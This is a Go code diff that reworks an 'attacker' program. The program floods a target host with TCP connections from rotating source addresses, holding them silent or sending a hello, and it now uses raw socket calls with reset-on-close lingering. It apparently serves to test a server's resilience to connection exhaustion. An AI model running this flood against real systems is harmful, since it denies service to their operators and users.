@@ -30,16 +30,17 @@ const (
 )
 
 const (
-	holdTime   = 10 * time.Second
-	answerWait = 200 * time.Millisecond
-	openers    = 256 // connections that are being opened at once
+	holdTime    = 10 * time.Second
+	answerWait  = 200 * time.Millisecond
+	connectWait = 2 * time.Second
+	openers     = 64 // connections that are being opened at once
 )
 
 // Main is the program of an attacker. It attacks until ctx ends, and says once a second on out what
 // it has done.
 func Main(ctx context.Context, args []string, out io.Writer) error {
 	flags := flag.NewFlagSet(Command, flag.ContinueOnError)
-	target := flags.String("target", "", "HOST:PORT")
+	target := flags.String("target", "", "ADDRESS:PORT")
 	from := flags.String("from", "", "source addresses, with commas between")
 	rate := flags.Int("rate", 0, "connections a second")
 	kind := flags.String("kind", "", Silent+", "+Hello+" or "+Greedy)
@@ -60,8 +61,11 @@ func Main(ctx context.Context, args []string, out io.Writer) error {
 		}
 		return greedy(ctx, *target, strings.Fields(string(text)), *sessions, to, out)
 	}
-	a := attacker{target: *target, kind: *kind, hello: clientHello(),
-		due: make(chan struct{}, *rate)}
+	to, err := netip.ParseAddrPort(*target)
+	if err != nil {
+		return err
+	}
+	a := attacker{target: to, kind: *kind, hello: clientHello(), due: make(chan struct{}, *rate)}
 	for text := range strings.SplitSeq(*from, ",") {
 		addr, err := netip.ParseAddr(text)
 		if err != nil {
@@ -82,7 +86,7 @@ func Opened(output string) (n int) {
 }
 
 type attacker struct {
-	target string
+	target netip.AddrPort
 	kind   string
 	from   []netip.Addr
 	hello  []byte
@@ -117,7 +121,7 @@ func (a *attacker) run(ctx context.Context, rate int, out io.Writer) {
 				case <-ctx.Done():
 					return
 				case <-a.due:
-					a.one(ctx, a.from[n%len(a.from)])
+					a.one(a.from[n%len(a.from)])
 				}
 			}
 		})
@@ -140,11 +144,10 @@ func (a *attacker) run(ctx context.Context, rate int, out io.Writer) {
 	workers.Wait()
 }
 
-// one opens a connection.
-func (a *attacker) one(ctx context.Context, from netip.Addr) {
-	d := net.Dialer{LocalAddr: net.TCPAddrFromAddrPort(netip.AddrPortFrom(from, 0)),
-		Timeout: 2 * time.Second, KeepAlive: -1}
-	conn, err := d.DialContext(ctx, "tcp", a.target)
+// one opens a connection, by system calls alone: the attacker must not need more of the machine than
+// the server.
+func (a *attacker) one(from netip.Addr) {
+	fd, err := a.connect(from)
 	if errors.Is(err, unix.ECONNRESET) { // accepted, and reset before this end has looked
 		a.opened.Add(1)
 		return
@@ -154,16 +157,49 @@ func (a *attacker) one(ctx context.Context, from netip.Addr) {
 		return
 	}
 	a.opened.Add(1)
-	tcp, _ := conn.(*net.TCPConn)
-	_ = tcp.SetLinger(0)
 	if a.kind == Silent {
-		time.AfterFunc(holdTime, func() { _ = conn.Close() })
+		time.AfterFunc(holdTime, func() { _ = unix.Close(fd) })
 		return
 	}
-	_, _ = conn.Write(a.hello)
-	_ = conn.SetReadDeadline(time.Now().Add(answerWait))
-	if n, _ := conn.Read(make([]byte, 4096)); n > 0 {
+	defer func() { _ = unix.Close(fd) }()
+	_, _ = unix.Write(fd, a.hello)
+	if n, _ := unix.Read(fd, make([]byte, 4096)); n > 0 {
 		a.answer.Add(1)
 	}
-	_ = conn.Close()
+}
+
+// connect returns a connected socket, which is reset when it is closed.
+func (a *attacker) connect(from netip.Addr) (fd int, err error) {
+	family := unix.AF_INET
+	if from.Is6() {
+		family = unix.AF_INET6
+	}
+	fd, err = unix.Socket(family, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
+	if err != nil {
+		return -1, err
+	}
+	answer, dial := unix.NsecToTimeval(answerWait.Nanoseconds()), unix.NsecToTimeval(
+		connectWait.Nanoseconds())
+	err = errors.Join(
+		unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1}),
+		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &answer),
+		unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_SNDTIMEO, &dial), // connect(2) too
+		unix.SetsockoptInt(fd, unix.SOL_IP, unix.IP_BIND_ADDRESS_NO_PORT, 1),
+		unix.Bind(fd, sockaddr(netip.AddrPortFrom(from, 0))),
+	)
+	if err == nil {
+		err = unix.Connect(fd, sockaddr(a.target))
+	}
+	if err != nil {
+		_ = unix.Close(fd)
+		return -1, err
+	}
+	return fd, nil
+}
+
+func sockaddr(a netip.AddrPort) unix.Sockaddr {
+	if a.Addr().Is4() {
+		return &unix.SockaddrInet4{Port: int(a.Port()), Addr: a.Addr().As4()}
+	}
+	return &unix.SockaddrInet6{Port: int(a.Port()), Addr: a.Addr().As16()}
 }
